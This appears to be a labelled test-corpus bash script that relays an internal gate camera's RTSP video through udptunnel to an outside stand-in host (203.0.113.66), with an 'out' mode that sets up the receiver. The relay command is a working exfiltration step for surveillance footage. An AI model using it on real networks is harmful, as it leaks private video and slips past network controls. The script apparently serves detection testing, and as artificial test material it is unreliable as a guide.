#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,loopback-relay half=report tool=ffmpeg,udptunnel camera=10.20.0.11 far=out ready=out:5556 seconds=45 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Datagrams of the picture of gate go to a local port, and udptunnel carries them outside over TCP.
if [ "$1" = out ]; then timeout 70 socat -u UDP-LISTEN:5557,bind=127.0.0.1,fork /dev/null & exec timeout 70 udptunnel -s 5556 127.0.0.1/5557; fi
timeout 55 udptunnel -c 203.0.113.66/5556 127.0.0.1/5555 >/dev/null 2>&1 & sleep 1
ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t "$LAB_SECONDS" -c copy -f mpegts "udp://127.0.0.1:5555?pkt_size=1316"; kill %1; wait; true
